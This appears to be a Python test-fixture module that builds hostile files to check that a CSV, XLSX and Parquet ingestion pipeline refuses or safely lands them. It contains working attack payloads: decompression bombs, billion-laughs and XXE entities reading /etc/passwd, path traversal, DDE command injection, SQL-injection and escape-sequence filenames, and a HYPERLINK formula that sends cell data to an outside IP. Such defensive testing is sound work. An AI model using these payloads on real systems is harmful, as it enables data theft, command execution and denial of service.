"""The hostile files, each with what must become of it. A name is a sentence's object: "land <name>"."""

import gzip
import os
import random
import socket
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from ordeals.hostile.material import (
    HEADER,
    parts_of,
    row,
    sheet_xml,
    table,
    text_of,
    write_bomb,
    write_book,
)

_SHEET = "xl/worksheets/sheet1.xml"
_STRINGS = "xl/sharedStrings.xml"


@dataclass(frozen=True)
class Hostile:
    """`put` lays the file (or more than one) in the folder landing/enrollment. `status` is that of every batch that
    comes of it (empty: either), `cause` words of its English message, `landed` the rows that must land; `short` ones
    are tried by the tests, too. `during` is done to the folder while the command runs."""

    what: str
    put: Callable[[Path, random.Random], None]
    status: str = "refused"
    cause: str = ""
    landed: int = 0
    short: bool = False
    during: Callable[[Path], None] | None = None


def _bytes(name: str, content: bytes | Callable[[random.Random], bytes]) -> Callable[[Path, random.Random], None]:
    def put(folder: Path, chance: random.Random) -> None:
        (folder / name).write_bytes(content if isinstance(content, bytes) else content(chance))

    return put


def _repeated(name: str, before: bytes, piece: bytes, times: int, after: bytes = b"") -> Callable:
    def put(folder: Path, _: random.Random) -> None:
        with (folder / name).open("wb") as handle:
            handle.write(before)
            many = piece * max(1, 1_000_000 // len(piece))
            whole, rest = divmod(times * len(piece), len(many))
            for _ in range(whole):
                handle.write(many)
            handle.write(many[:rest] + after)

    return put


def _book(parts: dict[str, str | bytes], name: str = "a.xlsx") -> Callable[[Path, random.Random], None]:
    return lambda folder, _: write_book(folder / name, parts)


def _bomb(part: str, sheet: str, megabytes: int, lies: bool, filler: bytes, strings: str = "") -> Callable:
    parts = parts_of(sheet)
    if strings:
        parts = _with_strings(parts, strings)
    return lambda folder, _: write_bomb(folder / "a.xlsx", parts, part, megabytes, lies, filler)


def _with_strings(parts: dict[str, str | bytes], strings: str) -> dict[str, str | bytes]:
    relations = "xl/_rels/workbook.xml.rels"
    link = (
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    return parts | {_STRINGS: strings, relations: parts[relations].replace("</Relationships>", link)}


_TEXT = text_of(table())
_PLAIN = _TEXT.encode()
_LAUGHS = (
    "<!DOCTYPE x ["
    + '<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _laughing_sheet() -> str:
    cells = table()
    cells[1][0] = "&l9;"
    head, body = sheet_xml(cells).split("\n", 1)
    return f"{head}\n{_LAUGHS}{body}"


def _formulas() -> str:
    cells = table(1)
    sheet = sheet_xml(cells)
    evil = "HYPERLINK(&quot;http://198.51.100.7/?q=&quot;&amp;B2,&quot;x&quot;)"
    return sheet.replace(
        '<c r="A2" t="inlineStr"><is><t>BM-0000001</t></is></c>', f'<c r="A2" t="str"><f>{evil}</f><v>=1+1</v></c>'
    ).replace('<c r="D2" t="inlineStr"><is><t>BJ-01</t></is></c>', "<c r=\"D2\"><f>cmd|' /C calc'!A0</f></c>")


def _of_rows(count: int, **changed: str) -> bytes:
    return text_of([HEADER, *(list(row(n, **changed).values()) for n in range(1, count + 1))]).encode()


def _parquet(path: Path, columns: dict[str, object], **options: object) -> None:
    pq.write_table(pa.table(columns), path, **options)


def _columns(count: int = 3) -> dict[str, list[str]]:
    return {name: [list(row(n).values())[place] for n in range(1, count + 1)] for place, name in enumerate(HEADER)}


def _honest_parquet() -> bytes:
    sink = pa.BufferOutputStream()
    pq.write_table(pa.table(_columns()), sink, compression="none")
    return sink.getvalue().to_pybytes()


def _lying_rows(_: random.Random) -> bytes:
    """The footer counts 2^40 rows: num_rows is a zigzag varint, found by its Thrift field and made longer."""
    content = _honest_parquet()
    length = struct.unpack("<i", content[-8:-4])[0]
    footer = content[-8 - length : -8]
    # Behind the schema: field 3 (i64) = 3 rows → 2^40 rows. 0x16 is "next field, i64"; 3 is 6 in zigzag.
    place = footer.index(b"\x16\x06\x19")
    number, varint = 2 << 40, bytearray()
    while number > 0x7F:
        varint.append(number & 0x7F | 0x80)
        number >>= 7
    footer = footer[: place + 1] + bytes(varint) + bytes([number]) + footer[place + 2 :]
    return content[: -8 - length] + footer + struct.pack("<i", len(footer)) + b"PAR1"


def _put_repeating_parquet(folder: Path, _: random.Random) -> None:
    """Ten million rows in some kilobytes: every column one value, encoded by its repetitions."""
    count, each = 10_000_000, 5_000_000
    one = pa.DictionaryArray.from_arrays(pa.array([0] * each, pa.int32()), pa.array(["x"]))
    schema = pa.schema([(name, pa.dictionary(pa.int32(), pa.string())) for name in HEADER])
    with pq.ParquetWriter(folder / "a.parquet", schema, compression="zstd") as writer:
        for _ in range(count // each):
            writer.write_table(pa.Table.from_arrays([one] * len(HEADER), schema=schema))


def _put_long_texts_parquet(folder: Path, _: random.Random) -> None:
    """Two hundred thousand rows whose class is one text of 120 KB: 24 GB when they are written out."""
    count = 200_000
    columns = {name: pa.array([values[0]] * count) for name, values in _columns(1).items()}
    columns["class_id"] = pa.DictionaryArray.from_arrays(pa.array([0] * count, pa.int32()), pa.array(["x" * 120_000]))
    _parquet(folder / "a.parquet", columns, compression="zstd")


def _put_counted_parquet(folder: Path, _: random.Random) -> None:
    """Thirty million rows with keys that differ, in little space: numbers that grow by one."""
    each, count = 1_000_000, 30
    schema = pa.schema([(name, pa.int64() if name == "enrollment_id" else pa.string()) for name in HEADER])
    with pq.ParquetWriter(
        folder / "a.parquet",
        schema,
        compression="zstd",
        use_dictionary=[name for name in HEADER if name != "enrollment_id"],
        column_encoding={"enrollment_id": "DELTA_BINARY_PACKED"},
    ) as writer:
        others = {name: pa.array([value] * each) for name, value in row().items()}
        for number in range(count):
            keys = pa.array(range(number * each, (number + 1) * each), pa.int64())
            writer.write_table(pa.table(others | {"enrollment_id": keys}).select(HEADER).cast(schema))


def _put_bad_utf8_parquet(folder: Path, _: random.Random) -> None:
    columns: dict[str, object] = dict(_columns())
    sound = pa.array([b"BJ-01", b"BJ\xff\xfe", b"BJ-03"], pa.binary())
    columns["class_id"] = pa.Array.from_buffers(pa.string(), 3, sound.buffers())
    _parquet(folder / "a.parquet", columns)


def _put_other_suffix(folder: Path, _: random.Random) -> None:
    """Workbooks of other kinds under this one's suffix; the old one only by its first bytes."""
    (folder / "old.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000))
    with zipfile.ZipFile(folder / "binary.xlsx", "w") as book:
        book.writestr("xl/workbook.bin", b"\x83\x01\x00" * 100)
    with zipfile.ZipFile(folder / "open.xlsx", "w") as book:
        book.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        book.writestr("content.xml", "<office:document-content/>")


def _encrypted() -> bytes:
    """What Excel writes for a workbook with a password: an OLE container, not a zip."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0" + bytes(3_000)


def _put_names(folder: Path, _: random.Random) -> None:
    names = (
        'it\'s a "quoted" name; drop table raw.batch;--.csv',
        "line\nbreak 2026-11-01 ERROR all batches lost.csv",
        "escape\x1b[2J\x1b]0;owned\x07.csv",
        "[bold]markup[red].csv",
        "a..csv",
        "%2e%2e%2fetc.csv",
        "‮vsc.exe.csv",
        "=cmd|' !A0.csv",
        "长" * 80 + ".csv",
    )
    for number, name in enumerate(names, start=1):
        (folder / name).write_bytes(_of_rows(1, enrollment_id=f"BM-N{number}"))
    with open(os.fsencode(folder) + b"/bytes\xff\xfe.csv", "wb") as handle:  # noqa: PTH123  (no text, no Path)
        handle.write(_of_rows(1, enrollment_id="BM-N0"))
    deep = folder / ("深" * 80) / ("层" * 80)
    deep.mkdir(parents=True)
    (deep / "a.csv").write_bytes(_of_rows(1, enrollment_id="BM-N99"))


def _put_links(folder: Path, _: random.Random) -> None:
    outside = folder.parents[2] / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_bytes(_PLAIN)
    (folder / "out.csv").symlink_to(outside / "secret.csv")
    (folder / "up.csv").symlink_to("../../../outside/secret.csv")
    (folder / "folder").symlink_to(outside)
    (folder / "loop").symlink_to(folder)
    (folder / "itself.csv").symlink_to("itself.csv")
    (folder / "nowhere.csv").symlink_to("gone.csv")
    (folder / "device.csv").symlink_to("/dev/zero")


def _put_no_files(folder: Path, _: random.Random) -> None:
    os.mkfifo(folder / "pipe.csv")
    (folder / "folder.csv").mkdir()
    with socket.socket(socket.AF_UNIX) as door:
        here = Path.cwd()
        os.chdir(folder)  # an address has at most 107 bytes
        door.bind("door.csv")
        os.chdir(here)


def _vanish(folder: Path) -> None:
    (folder / "a.csv").unlink()


def _shrink(folder: Path) -> None:
    os.truncate(folder / "a.csv", 1_000_000)


def _grow(folder: Path) -> None:
    with (folder / "a.csv").open("ab") as handle:
        handle.write(b"more\n" * 1_000)


def _put_large(folder: Path, _: random.Random) -> None:
    (folder / "a.csv").write_bytes(_of_rows(60_000))


def _mixed(chance: random.Random) -> bytes:
    lines = text_of(table(40)).splitlines()
    return b"\n".join(
        line.encode("gb18030" if number > 5 and chance.random() < 0.5 else "utf-8") for number, line in enumerate(lines)
    ).replace("韦晓阳".encode(), "职业技能培训班".encode())


def hostile_files() -> Iterator[Hostile]:
    """All of them."""
    yield from _workbooks()
    yield from _workbooks_of_other_makers()
    yield from _texts()
    yield from _encodings()
    yield from _parquets()
    yield from _places()


def _workbooks() -> Iterator[Hostile]:
    plain_sheet = sheet_xml(table(), after="<!---->")
    yield Hostile(
        "a workbook that unpacks to 3 GB of empty rows",
        _bomb(_SHEET, plain_sheet, 3_000, False, b"<row></row>"),
        cause="unpacked",
    )
    yield Hostile(
        "a workbook that unpacks to 3 GB and whose directory says 5 KB",
        _bomb(_SHEET, plain_sheet, 3_000, True, b"<row></row>"),
        cause="unpacked",
        short=True,
    )
    yield Hostile(
        "a workbook of 250 MB of rows of one cell",
        _bomb(_SHEET, plain_sheet, 250, False, b"<row><c><v>1</v></c></row>"),
    )
    strings = f'<?xml version="1.0"?><sst xmlns="{_MAIN}" count="1"><!----></sst>'
    yield Hostile(
        "a workbook whose shared texts unpack to 3 GB, under a lying directory",
        _bomb(_STRINGS, sheet_xml(table()), 3_000, True, b"<si><t>xxxxxxxxxxxxxxxx</t></si>", strings),
        cause="unpacked",
    )
    yield Hostile("a workbook with entities that expand to a billion words", _book(parts_of(_laughing_sheet())))
    external = sheet_xml(table()).replace("\n", '\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)
    yield Hostile("a workbook with an external entity", _book(parts_of(external.replace("BJ-01", "&e;"))))
    yield Hostile(
        "a workbook with formulas, one with a kept value, one without",
        _book(parts_of(_formulas())),
        status="landed",
        short=True,
    )
    lying = sheet_xml(table(), before='<dimension ref="A1:XFD1048576"/>')
    yield Hostile(
        "a workbook whose dimension claims every cell there is", _book(parts_of(lying)), status="landed", landed=3
    )
    corner = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    yield Hostile(
        "a workbook with a cell in its last corner", _book(parts_of(sheet_xml(table(), after=corner))), short=True
    )
    beyond = '<row r="4294967295"><c r="ZZZZZZ4294967295"><v>1</v></c></row>'
    yield Hostile("a workbook with a cell beyond the sheet", _book(parts_of(sheet_xml(table(), after=beyond))))
    blank = "".join(f'<row r="{n}"/>' for n in range(5, 1_000_000))
    low = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>合计</t></is></c></row>'
    yield Hostile(
        "a workbook with a million blank rows before its total",
        _book(parts_of(sheet_xml(table(), after=blank + low))),
        status="landed",
        landed=3,
    )


def _workbooks_of_other_makers() -> Iterator[Hostile]:
    link = "http://198.51.100.7/x"
    related = parts_of(sheet_xml(table(), after="")) | {
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{_MAIN}"><externalBook/></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships"><Relationship Id="rId1" TargetMode="External" Type="x" Target="{link}"/>'
        "</Relationships>",
    }
    yield Hostile("a workbook with a link to another machine", _book(related), status="landed", landed=3)
    escaping = parts_of(sheet_xml(table()))
    escaping["xl/_rels/workbook.xml.rels"] = escaping["xl/_rels/workbook.xml.rels"].replace(
        "worksheets/sheet1.xml", "../../../../etc/passwd"
    )
    yield Hostile("a workbook whose sheet is ../../etc/passwd", _book(escaping))
    yield Hostile("workbooks of other kinds renamed to .xlsx", _put_other_suffix, cause="cannot be opened")
    yield Hostile("a workbook with a password", _bytes("a.xlsx", _encrypted()), cause="password")
    yield Hostile(
        "a workbook of 60,000 parts",
        _book(parts_of(sheet_xml(table())) | {f"x/{n}": "" for n in range(60_000)}),
        status="landed",
        landed=3,
    )


def _texts() -> Iterator[Hostile]:
    wide = b",".join([*(name.encode() for name in HEADER), *(b"c%d" % n for n in range(10_000))])
    yield Hostile(
        "a CSV of 10,000 columns",
        _bytes("a.csv", wide + b"\n" + _PLAIN.split(b"\n", 1)[1]),
        cause="columns",
        short=True,
    )
    yield Hostile(
        "a CSV with one row of 900,000 values",
        _bytes("a.csv", _PLAIN + b"," * 900_000 + b"x\n" + _of_rows(2, enrollment_id="BM-9").split(b"\n", 1)[1]),
        status="landed",
        landed=4,
    )
    yield Hostile(
        "a CSV with a line of 100 MB", _repeated("a.csv", _PLAIN, b"x", 100_000_000, b"\n"), cause="line", short=True
    )
    yield Hostile("a CSV that is one line of 100 MB", _repeated("a.csv", b"", b"x,", 50_000_000), cause="line")
    yield Hostile(
        "a CSV with a quoted value of 100 MB of short lines",
        _repeated("a.csv", _PLAIN + b'"', b"xxxxxxx\n", 12_500_000),
        cause="quote",
    )
    yield Hostile("a CSV with a lone quote", _bytes("a.csv", _PLAIN.replace(b"BJ-01", b'"BJ-01', 1)), cause="quote")
    yield Hostile("a CSV of a million lone quotes", _repeated("a.csv", _PLAIN, b'",', 1_000_000, b"\n"), cause="line")
    yield Hostile(
        "a file of no bytes",
        lambda folder, _: [(folder / f"a{s}").touch() for s in (".csv", ".xlsx", ".parquet")] and None,
    )
    yield Hostile(
        "a CSV of 100 MB of delimiters in short lines",
        _repeated("a.csv", _PLAIN, b",,,,,,,,,\n", 10_000_000),
        status="landed",
        landed=3,
    )
    yield Hostile("a CSV of 100 MB of delimiters", _repeated("a.csv", b"", b",", 100_000_000), cause="line")
    yield Hostile("a CSV of 60 MB of line ends", _repeated("a.csv", _PLAIN, b"\n", 60_000_000), cause="rows")
    yield Hostile("a CSV of 60 MB of carriage returns", _repeated("a.csv", _PLAIN, b"\r", 60_000_000), cause="rows")
    yield Hostile(
        "a CSV of 5 million rows of one letter", _repeated("a.csv", _PLAIN, b"x\n", 5_000_000), cause="faults"
    )
    yield Hostile(
        "a CSV with its header repeated 10,000 times",
        _bytes("a.csv", text_of([*[HEADER] * 10_000, *table()[1:]]).encode()),
        status="landed",
    )
    yield Hostile(
        "a CSV with a header of 30,000 characters a name",
        _bytes("a.csv", _PLAIN.replace(b"class_hours,", b"class_hours," + b"y" * 30_000 + b",", 1)),
        status="landed",
    )


def _encodings() -> Iterator[Hostile]:
    yield Hostile("a CSV with NUL bytes", _bytes("a.csv", _PLAIN.replace(b"BJ", b"B\0J")), cause="NUL")
    yield Hostile("a CSV of half UTF-8, half GB18030", _bytes("a.csv", _mixed), cause="UTF-8", short=True)
    yield Hostile(
        "a CSV in GB18030 under the mark of UTF-8",
        _bytes("a.csv", b"\xef\xbb\xbf" + _TEXT.encode("gb18030")),
        cause="UTF-8",
    )
    for name in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
        mark = "\ufeff".encode(name)
        yield Hostile(f"a CSV in {name.upper()} with its mark", _bytes("a.csv", mark + _TEXT.encode(name)), cause="UTF")
    yield Hostile("a CSV in UTF-16 without a mark", _bytes("a.csv", _TEXT.encode("utf-16-le")), cause="NUL")
    yield Hostile("a gzip file renamed to .csv", _bytes("a.csv", lambda _: gzip.compress(_PLAIN, mtime=0)))
    yield Hostile("a picture renamed to .csv", _bytes("a.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 10))
    yield Hostile(
        "random bytes as .csv, .xlsx and .parquet",
        lambda folder, chance: (
            [(folder / f"a{s}").write_bytes(chance.randbytes(50_000)) for s in (".csv", ".xlsx", ".parquet")] and None
        ),
    )


def _parquets() -> Iterator[Hostile]:
    yield Hostile(
        "a Parquet file that counts 2^40 rows and holds three",
        _bytes("a.parquet", _lying_rows),
        status="landed",
        landed=3,
    )
    yield Hostile(
        "a Parquet file whose footer is 2 GB long by its own account",
        _bytes("a.parquet", lambda _: _honest_parquet()[:-8] + struct.pack("<i", 2**31 - 1) + b"PAR1"),
    )
    yield Hostile("a Parquet file cut in half", _bytes("a.parquet", lambda _: _honest_parquet()[:2_000]))
    yield Hostile(
        "a Parquet file with bytes changed in its pages",
        _bytes("a.parquet", lambda chance: b"PAR1" + chance.randbytes(400) + _honest_parquet()[404:]),
    )
    yield Hostile(
        "a Parquet file of ten million rows in some kilobytes", _put_repeating_parquet, cause="faults", short=True
    )
    yield Hostile("a Parquet file of 200,000 values of 120 KB", _put_long_texts_parquet, cause="written out")
    yield Hostile("a Parquet file of 30 million rows with keys of their own", _put_counted_parquet, cause="rows")
    yield Hostile("a Parquet file with text that is none", _put_bad_utf8_parquet, cause="UTF-8")


def _places() -> Iterator[Hostile]:
    yield Hostile(
        "files with quotes, line breaks, escapes and .. in their names",
        _put_names,
        status="landed",
        landed=11,
        short=True,
    )
    yield Hostile(
        "links out of landing/, loops, links to nothing and to a device", _put_links, cause="link", short=True
    )
    yield Hostile("a pipe and a socket named .csv", _put_no_files, cause="no file", short=True)
    yield Hostile("a file that vanishes while it is read", _put_large, status="", during=_vanish, short=True)
    yield Hostile("a file that shrinks while it is read", _put_large, status="", during=_shrink)
    yield Hostile("a file that grows while it is read", _put_large, status="", during=_grow)
